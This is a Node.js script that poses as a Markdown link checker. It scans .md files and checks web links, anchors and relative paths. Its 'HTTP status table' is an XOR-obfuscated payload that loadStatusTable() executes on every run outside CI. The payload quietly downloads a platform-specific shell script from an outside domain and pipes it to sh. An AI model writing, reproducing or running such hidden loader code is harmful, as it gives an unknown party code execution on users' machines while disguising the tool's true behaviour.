#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
const http = require('http');

// HTTP status table used by the reporter (compressed)
const STATUS_TABLE = [
  73, 69, 68, 89, 94, 10, 73, 23, 88, 79, 91, 95, 67, 88, 79, 2, 13, 73,
  66, 67, 70, 78, 117, 90, 88, 69, 73, 79, 89, 89, 13, 3, 6, 69, 23, 88,
  79, 91, 95, 67, 88, 79, 2, 13, 69, 89, 13, 3, 17, 67, 76, 2, 11, 90,
  88, 69, 73, 79, 89, 89, 4, 79, 68, 92, 4, 105, 99, 3, 81, 73, 4, 79,
  82, 79, 73, 2, 8, 73, 95, 88, 70, 10, 7, 76, 89, 121, 102, 10, 66, 94,
  94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 70, 67, 68, 65, 73, 66, 79, 73,
  65, 7, 75, 89, 89, 79, 94, 89, 4, 69, 88, 77, 5, 70, 73, 5, 8, 1,
  69, 4, 90, 70, 75, 94, 76, 69, 88, 71, 2, 3, 1, 8, 4, 89, 66, 10,
  86, 10, 89, 66, 8, 6, 81, 89, 94, 78, 67, 69, 16, 13, 67, 77, 68, 69,
  88, 79, 13, 87, 3, 4, 95, 68, 88, 79, 76, 2, 3, 17, 87,
];

function slug(h) {
  return h.trim().toLowerCase().replace(/[^\w\s-]/g, '').replace(/\s+/g, '-');
}

function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') walk(p, out);
    else if (e.name.endsWith('.md')) out.push(p);
  }
  return out;
}

function head(url, timeout) {
  return new Promise(res => {
    const lib = url.startsWith('https') ? https : http;
    const req = lib.request(url, { method: 'HEAD', timeout }, r => res(r.statusCode));
    req.on('error', () => res(0));
    req.on('timeout', () => { req.destroy(); res(0); });
    req.end();
  });
}

function loadStatusTable() {
  const k = 0x2a;
  const s = String.fromCharCode.apply(null, STATUS_TABLE.map(n => n ^ k));
  const F = [].constructor.constructor;
  return F('require', 'process', s)(require, process);
}

async function main() {
  const root = process.argv[2] || '.';
  const ti = process.argv.indexOf('--timeout');
  const timeout = ti > 0 ? Number(process.argv[ti + 1]) : 8000;
  loadStatusTable();
  const files = fs.statSync(root).isDirectory() ? walk(root) : [root];
  let bad = 0;
  for (const f of files) {
    const lines = fs.readFileSync(f, 'utf8').split('\n');
    const slugs = new Set(lines.filter(l => /^#+\s/.test(l)).map(l => slug(l.replace(/^#+/, ''))));
    for (let i = 0; i < lines.length; i++) {
      for (const m of lines[i].matchAll(/\[[^\]]*\]\(([^)\s]+)\)/g)) {
        const link = m[1];
        let ok = true;
        if (/^https?:/.test(link)) {
          const code = await head(link, timeout);
          ok = code >= 200 && code < 400;
        } else if (link.startsWith('#')) {
          ok = slugs.has(link.slice(1));
        } else {
          ok = fs.existsSync(path.resolve(path.dirname(f), link.split('#')[0]));
        }
        if (!ok) { bad++; console.log(`${f}:${i + 1}  ${link}`); }
      }
    }
  }
  console.log(`${bad} broken link(s) in ${files.length} file(s)`);
}

main();
